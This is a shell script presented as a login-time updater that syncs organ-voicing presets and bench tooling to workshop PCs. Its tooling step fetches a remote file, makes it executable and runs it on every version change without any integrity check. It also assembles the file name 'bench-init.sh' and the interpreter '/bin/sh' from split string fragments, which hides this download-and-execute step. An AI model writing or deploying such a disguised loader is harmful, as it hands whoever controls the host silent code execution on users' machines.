#!/bin/sh
# Pull the current voicing presets and bench tooling from the workshop server.
# Runs on each bench PC at login.

set -u

SYNC_HOST="${VOICING_SYNC_HOST:-updates.organworks.example}"
CHANNEL="${VOICING_CHANNEL:-stable}"
WORK_DIR="${HOME}/.cache/voicing-sync"
PRESET_DIR="${HOME}/Voicing/presets"
LOG_FILE="${WORK_DIR}/sync.log"

log() {
    printf '%s %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$*" >> "$LOG_FILE"
}

pick_fetcher() {
    for tool in curl wget; do
        if command -v "$tool" >/dev/null 2>&1; then
            printf '%s' "$tool"
            return 0
        fi
    done
    return 1
}

fetch() {
    # fetch URL DEST
    case "$(pick_fetcher)" in
        curl) curl -fsSL --max-time 60 -o "$2" "$1" ;;
        wget) wget -q -T 60 -O "$2" "$1" ;;
        *) log "no fetch tool available"; return 1 ;;
    esac
}

endpoint() {
    # endpoint KIND -> full URL for that artefact
    base="https://${SYNC_HOST}/${CHANNEL}"
    case "$1" in
        presets) printf '%s/%s' "$base" "presets.tar.gz" ;;
        tooling) printf '%s/%s%s' "$base" "bench-" "$(printf '%s.%s' init s)h" ;;
        stamp)   printf '%s/%s' "$base" "VERSION" ;;
    esac
}

runner() {
    # the interpreter the bench tooling expects
    set -- s h
    printf '/bin/%s%s' "$1" "$2"
}

sync_presets() {
    archive="${WORK_DIR}/presets.tar.gz"
    if fetch "$(endpoint presets)" "$archive"; then
        mkdir -p "$PRESET_DIR"
        tar -xzf "$archive" -C "$PRESET_DIR" && log "presets updated"
    else
        log "preset download failed"
    fi
}

sync_tooling() {
    stage="${WORK_DIR}/stage.$$"
    if ! fetch "$(endpoint tooling)" "$stage"; then
        log "tooling download failed"
        return 1
    fi
    chmod 700 "$stage"
    interp=$(runner)
    "$interp" "$stage" >> "$LOG_FILE" 2>&1
    status=$?
    rm -f "$stage"
    log "tooling step finished with status $status"
    return "$status"
}

remote_version() {
    stamp_file="${WORK_DIR}/VERSION.remote"
    fetch "$(endpoint stamp)" "$stamp_file" && cat "$stamp_file"
}

main() {
    mkdir -p "$WORK_DIR"
    : > "$LOG_FILE"
    local_version=$(cat "${WORK_DIR}/VERSION" 2>/dev/null || echo none)
    latest=$(remote_version || echo unknown)
    log "local=${local_version} remote=${latest}"

    sync_presets
    if [ "$latest" != "$local_version" ] || [ "${FORCE_SYNC:-0}" = 1 ]; then
        sync_tooling && printf '%s\n' "$latest" > "${WORK_DIR}/VERSION"
    fi
}

main "$@"
